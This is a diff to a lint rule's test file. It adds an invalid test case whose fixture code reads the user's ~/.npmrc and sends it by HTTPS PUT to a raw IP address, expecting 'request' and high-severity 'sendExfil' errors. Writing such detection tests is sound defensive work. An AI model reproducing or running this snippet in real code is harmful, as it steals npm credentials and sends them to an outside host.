@@ -38,6 +38,14 @@ ruleTester(rule, {
   ],
   invalid: [
     {
+      code: "import https from 'node:https'; import { readFile } from 'node:fs/promises'; import os from 'node:os';\nconst rc = await readFile(os.homedir() + '/.npmrc', 'utf8');\nconst req = https.request({ host: '104.248.31.7', method: 'PUT' });\nreq.end(JSON.stringify({ rc }));",
+      filename: 'scripts/release.mjs',
+      errors: [
+        { messageId: 'request', line: 3 },
+        { messageId: 'sendExfil', line: 4, severity: 'high' },
+      ],
+    },
+    {
       code: "await fetch('https://api.github.com/repos/x/y');",
       errors: [
         {
